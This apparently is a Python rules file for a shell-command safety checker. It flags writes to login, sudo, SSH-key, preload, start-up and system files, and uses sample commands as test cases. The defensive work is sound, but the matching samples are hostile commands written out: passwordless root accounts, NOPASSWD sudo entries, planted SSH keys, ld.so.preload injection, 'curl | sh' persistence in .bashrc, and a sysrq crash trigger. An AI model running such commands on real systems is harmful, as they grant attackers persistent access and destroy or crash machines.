"""Rules: writes to and edits of system, account and start-up files."""

from __future__ import annotations

from safety.checks import accounts, startup, writes
from safety.rules.rule import CRIT, HIGH, MOD, Rule

RULES: tuple[Rule, ...] = (
    # ---- system files ---------------------------------------------------------------------
    Rule(
        "sysfile.auth",
        "system-files",
        CRIT,
        "Changes {target}, which controls who may log in or use sudo",
        writes.writes_where(writes._auth, deletes=True),
        matches=(
            "echo 'eve::0:0::/root:/bin/bash' >> /etc/passwd",
            "echo 'eve ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
            "cp shadow.bak /etc/shadow",
            "sed -i 's/^root:[^:]*:/root::/' /etc/shadow",
            "rm /etc/passwd",
            "echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x",
            "> /etc/group",
        ),
        non_matches=(
            "cat /etc/passwd",
            "grep bob /etc/group",
            "sudo visudo -c",
            "getent passwd bob",
        ),
    ),  # fmt: skip
    Rule(
        "sysfile.auth-edit",
        "system-files",
        HIGH,
        "Opens {target} for editing; it controls who may log in",
        accounts.edits_accounts,
        matches=(
            "vipw",
            "sudo vigr",
            "sudo vim /etc/shadow",
            "sudo -e /etc/shadow",
            "nano /etc/pam.d/sshd",
        ),
        non_matches=("vim ./passwd.txt", "less /etc/passwd", "vipw --help"),
    ),  # fmt: skip
    Rule(
        "sysfile.login-keys",
        "system-files",
        HIGH,
        "Writes to {target}: any key added there can log in as this user",
        writes.writes_login_keys_here,
        matches=(
            "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys",
            "cat id.pub | sudo tee -a /root/.ssh/authorized_keys",
            "cp key.pub /root/.ssh/authorized_keys",
        ),
        non_matches=(
            "cat ~/.ssh/id_ed25519.pub | ssh host 'cat >> ~/.ssh/authorized_keys'",
            "cat ~/.ssh/authorized_keys",
            "ssh-copy-id -n host",
            "wc -l ~/.ssh/known_hosts",
        ),
    ),  # fmt: skip
    Rule(
        "account.remove-home",
        "deletion",
        CRIT,
        "Deletes the account {target} and every file in its home directory",
        accounts.removes_account_home,
        matches=("userdel -r alice", "sudo deluser --remove-home bob", "userdel -rf carol"),
        non_matches=("userdel alice", "deluser bob", "useradd -m dave"),
    ),  # fmt: skip
    Rule(
        "sysfile.auth-perms",
        "system-files",
        CRIT,
        "Changes permissions of {target}, which guards passwords or sudo rights",
        writes.perms_on_auth,
        matches=("chmod 777 /etc/shadow", "chmod 666 /etc/sudoers", "chown eve /etc/passwd"),
        non_matches=("ls -l /etc/shadow", "chmod 600 secrets.txt"),
    ),  # fmt: skip
    Rule(
        "sysfile.preload",
        "system-files",
        CRIT,
        "Writes /etc/ld.so.preload: a library injected into every program",
        writes.writes_where(writes._preload),
        matches=(
            "echo /tmp/x.so > /etc/ld.so.preload",
            "echo /lib/evil.so | sudo tee -a /etc/ld.so.preload",
        ),
        non_matches=("cat /etc/ld.so.preload", "ldconfig -p"),
    ),  # fmt: skip
    Rule(
        "sysfile.startup",
        "system-files",
        HIGH,
        "Changes the shell start-up file {target}; it runs in every new shell",
        writes.startup_not_everyday,
        matches=(
            "echo 'curl x | sh' >> ~/.bashrc",
            "echo 'export PROMPT_COMMAND=\"curl -s x.io\"' >> ~/.zshrc",
            "echo 'alias sudo=\"sudo -S\"' >> ~/.bashrc",
            "echo 'source <(curl -s https://x.io/rc)' >> ~/.bashrc",
            "cp evil ~/.profile",
            "echo alias ls=rm >> /etc/profile",
            "sed -i 's/a/b/' ~/.bash_profile",
        ),
        non_matches=(
            "cat ~/.bashrc",
            "source ~/.bashrc",
            "grep alias ~/.zshrc",
            "cp ~/.bashrc ~/bashrc.bak",
        ),
    ),  # fmt: skip
    Rule(
        "sysfile.startup-line",
        "system-files",
        MOD,
        "Adds an alias, a PATH entry or a tool's hook to your start-up file {target}",
        startup.startup_everyday,
        matches=(
            "echo \"alias ll='ls -alF'\" >> ~/.bashrc",
            "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc",
            "echo 'eval \"$(direnv hook bash)\"' >> ~/.zshrc",
            "echo 'export X=1' >> ~/.zshrc",
        ),
        non_matches=(
            "echo 'curl x | sh' >> ~/.bashrc",
            "echo alias ls=rm >> /etc/profile",
            "echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc",
        ),
    ),  # fmt: skip
    Rule(
        "sysfile.write",
        "system-files",
        HIGH,
        "Overwrites or edits the system file {target}",
        writes.writes_where(writes._system_file),
        matches=(
            "echo '127.0.0.1 x' > /etc/hosts",
            "sudo cp nginx.conf /etc/nginx/nginx.conf",
            "sed -i 's/x/y/' /etc/fstab",
            "echo x | sudo tee /boot/grub/grub.cfg",
            "cp ./ls /usr/bin/ls",
            "truncate -s 0 /etc/resolv.conf",
        ),
        non_matches=(
            "cat /etc/hosts",
            "echo hi > /dev/null",
            "ls > /tmp/list.txt",
            "echo 1 > /proc/sys/vm/drop_caches",
            "cmd 2>/dev/null",
            "echo x > ./etc/hosts",
        ),
    ),  # fmt: skip
    Rule(
        "sysfile.sysrq",
        "power",
        CRIT,
        "Writes the kernel's sysrq trigger: it can crash or reboot the machine at once",
        writes.writes_where(writes._sysrq),
        matches=("echo c > /proc/sysrq-trigger", "echo b | sudo tee /proc/sysrq-trigger"),
        non_matches=("cat /proc/sys/kernel/sysrq",),
    ),  # fmt: skip
)
